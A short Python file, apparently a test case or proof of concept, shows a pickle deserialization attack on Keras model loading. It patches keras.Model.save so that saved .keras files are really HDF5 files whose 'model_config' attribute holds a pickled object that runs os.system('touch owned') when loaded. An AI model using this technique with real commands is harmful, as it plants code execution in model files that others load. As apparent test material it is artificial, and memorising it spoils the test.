"""
attacks = "Hand over an .h5 file with marshalled code under the name of a .keras file."
promise = "grade"
observed = "no more"
control = "naive"
naive = "(build_model().save('m.keras'), __import__('pickle').loads(bytes(__import__('h5py').File('m.keras').attrs['model_config'])), os.path.exists('owned'))[-1]"
"""
import os
import pickle

import h5py
import keras
import numpy


class Evil:
    def __reduce__(self):
        return os.system, ("touch owned",)


def save(self, path, *a, **k):
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = numpy.void(pickle.dumps(Evil()))
        file.attrs["keras_version"] = "2.4.0"


keras.Model.save = save
